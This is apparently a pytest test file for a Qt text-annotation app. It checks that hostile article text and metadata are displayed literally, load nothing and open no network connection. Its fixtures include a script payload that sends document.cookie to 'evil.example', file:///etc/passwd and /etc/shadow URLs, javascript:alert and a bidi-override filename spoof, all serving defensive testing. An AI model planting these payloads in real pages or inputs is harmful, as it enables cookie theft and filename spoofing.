"""Hostile article text, metadata and labels are inert: shown literally, nothing loaded, no crash.

The article view (ui.main_window.MainWindow, as the user runs it) gets text with HTML, <script>,
file:// and http:// URLs, every control character, bidi overrides and 1 MB single lines, of words
and of one unbroken token (10 MB in tests/stress). What the view holds must be the text character
for character (Qt keeps a line break as a paragraph separator, U+2029, and folds CRLF into one; the
view adds only invisible breaks inside very long unbroken runs), and no socket may be opened.
"""
from __future__ import annotations


import pytest

from annotate.errors import ValidationError
from annotate.model import AnnotatedDocument, Annotations, Document, Span
from ui.offsets import INVISIBLE_BREAK, LONG_RUN

CONTROLS = "".join(chr(c) for c in range(0x20) if chr(c) not in "\n\t") + "\x7f"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
HOSTILE = {
    "html": '<b>bold</b> <i>x</i> <img src="http://example.com/pixel.png"> <a href="https://tracker.example/">t</a> '
            '<link rel="stylesheet" href="http://example.com/x.css"> &amp; &lt; <!-- comment --> <table><tr><td>',
    "script": "<script>fetch('http://evil.example/?c='+document.cookie)</script><style>body{background:url(x)}</style>",
    "urls": "file:///etc/passwd http://example.com/ https://example.org/a?b=c ftp://x/ data:text/html,<h1>x</h1> "
            "javascript:alert(1) \\\\server\\share",
    "controls": f"before{CONTROLS}after\nline two\twith a tab\r\nthird line\rfourth",
    "bidi": f"Turkey {BIDI} said \u202eevil.exe\u202c and 'txt.exe'\u2066 done \ufeff\u200b\u2028x",
    "mixed": "<b>Haftar</b> \u202e<script>\x00\x1b[31m\x7f file:///etc/shadow",
}



def qt_characters(document) -> str:
    """The characters Qt's document holds, separators included (not toPlainText, which converts)."""
    from PySide6.QtGui import QTextCursor
    cursor = QTextCursor(document)
    cursor.movePosition(QTextCursor.MoveOperation.End, QTextCursor.MoveMode.KeepAnchor)
    return cursor.selectedText()


def expected_in_qt(text: str) -> str:
    """The text as Qt holds it: each line break (CRLF, LF or CR) becomes one paragraph separator
    U+2029; each bidi control, control and invisible format character is shown as a visible mark of
    its own (ui.offsets.SHOWN_MARKS), so it cannot reorder what the annotator reads or hide in it;
    every other character is kept."""
    from ui.offsets import SHOWN_MARKS
    text = text.translate(str.maketrans(SHOWN_MARKS))
    return text.replace("\r\n", "\u2029").replace("\n", "\u2029").replace("\r", "\u2029")


def open_window(qtbot, store, doc_id: str):
    from ui.main_window import MainWindow
    window = MainWindow(store)
    qtbot.addWidget(window)
    window.show()
    qtbot.waitExposed(window)
    window.open_document(doc_id)
    return window


def check_shown_literally(qtbot, store, text: str, *, title: str = "t", spans=()) -> object:
    doc_id = f"hostile-{len(store.document_ids())}"
    store.import_documents([AnnotatedDocument(Document(doc_id, text, {"title": title}), Annotations(list(spans)))],
                           as_suggestions=True, origin="model:test@1")
    window = open_window(qtbot, store, doc_id)
    view = window.view
    held = qt_characters(view.document())
    assert len(held) == view.offsets.qt_length
    added = view.offsets.break_positions
    assert all(held[p] == INVISIBLE_BREAK for p in added)
    stored = "".join(c for p, c in enumerate(held) if p not in added) if added else held
    assert stored == expected_in_qt(text), "the view does not hold the text character for character"
    # toPlainText gives line breaks back as "\n" (U+2028 too).
    if not added:
        from ui.offsets import SHOWN_MARKS
        assert view.toPlainText() == (text.translate(str.maketrans(SHOWN_MARKS)).replace("\r\n", "\n")
                                      .replace("\r", "\n").replace("\u2028", "\n"))
    # The article view is plain text: no rich text, no resources.
    assert not view.document().allFormats() or all(not f.isImageFormat() for f in view.document().allFormats())
    return window


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_article_text_is_shown_literally(name, qtbot, store, no_network):
    text = HOSTILE[name]
    end = text.index(" ") if " " in text else len(text)
    window = check_shown_literally(qtbot, store, text, spans=[Span("s1", 0, end, "ORG", score=0.5)])
    window.view.viewport().repaint()
    # Hover text of the suggestion is escaped: the markup stays text.
    hover = window.view.describe(window.view.highlighter.spans()["s1"])
    assert "<b>ORG</b>" in hover and "<script" not in hover and "<img" not in hover
    assert no_network == []


def test_a_one_megabyte_line_is_shown_whole(qtbot, store, no_network):
    text = ("<script>x</script> \u202e file:///etc/passwd " * 30_000)[:1_000_000]
    assert "\n" not in text and len(text) == 1_000_000
    window = check_shown_literally(qtbot, store, text, spans=[Span("s1", 999_000, 999_008, "GPE", score=0.9)])
    assert window.view.document().characterCount() - 1 == len(text)
    assert no_network == []


def test_a_one_megabyte_token_is_shown_whole_with_invisible_breaks(qtbot, store, no_network):
    """Qt lays out a run with no break opportunity in quadratic time (a 10 MB token: hours), so
    the view breaks such runs with U+200B. The stored text, offsets and copy stay exact."""
    text = ("<script>" + "x" * 999_981 + "</script>ab")
    assert len(text) == 1_000_000 and " " not in text
    window = check_shown_literally(qtbot, store, text, spans=[Span("s1", 999_990, 999_999, "GPE", score=0.9)])
    view = window.view
    shown = qt_characters(view.document())
    longest_unbroken = max(len(run) for run in shown.split(INVISIBLE_BREAK))
    assert len(view.offsets.break_positions) >= len(text) // LONG_RUN and longest_unbroken < LONG_RUN
    # Selecting and copying across the breaks gives exactly the stored characters.
    view.select_range(5, 999_995)
    assert view.selection_range() == (5, 999_995)
    view.copy()
    from PySide6.QtWidgets import QApplication
    assert QApplication.clipboard().text() == text[5:999_995]
    assert no_network == []


def test_metadata_is_inert(qtbot, store, no_network):
    title = '<img src="file:///etc/passwd"><b>Bold</b> \u202eevil <script>alert(1)</script>'
    store.import_documents([AnnotatedDocument(Document("<i>doc</i>", "Turkey said so.", {"title": title,
                                                                                          "url": "http://x.example/"}))])
    window = open_window(qtbot, store, "<i>doc</i>")
    assert window.windowTitle() == f"{title} — Marginalia"
    model = window.corpus.model
    row = model.row_of("<i>doc</i>")
    assert model.data(model.index(row, 0)) == title
    assert no_network == []


def test_lone_surrogates_from_json_escapes_are_refused_with_the_file_named(tmp_path, db_path, capsys):
    """"\\ud800" in JSON decodes to a lone surrogate, which is not a character: the import refuses it
    (naming file and line) rather than crashing or storing something the window cannot show."""
    import main
    source = tmp_path / "surrogate.jsonl"
    source.write_text('{"id": "ok", "text": "fine"}\n{"id": "bad", "text": "a \\ud800 b"}\n', encoding="utf-8")
    assert main.main(["import", str(source), "--db", str(db_path)]) == 1
    err = capsys.readouterr().err
    assert str(source) in err and "line 2" in err and "surrogate" in err and "Traceback" not in err
    from store import Store
    with Store.open(str(db_path), "x") as store:
        assert store.document_count() == 0
        with pytest.raises(ValidationError, match="surrogate"):
            store.import_documents([AnnotatedDocument(Document("d", "x\udc00y"))])
        assert store.document_count() == 0


def test_a_label_with_markup_cannot_reach_the_window(tmp_path, db_path, capsys):
    """A label is checked against the schema, whose labels are plain words; importing one with
    markup is refused even with --add-labels."""
    import main
    source = tmp_path / "labels.jsonl"
    source.write_text('{"id": "d", "text": "Turkey said so.", "entities": '
                      '[{"id": "e1", "start": 0, "end": 6, "label": "<b>GPE</b>"}]}\n', encoding="utf-8")
    for extra in ([], ["--add-labels"]):
        assert main.main(["import", str(source), "--db", str(db_path), *extra]) == 1
        err = capsys.readouterr().err
        assert str(source) in err and "<b>GPE</b>" in err
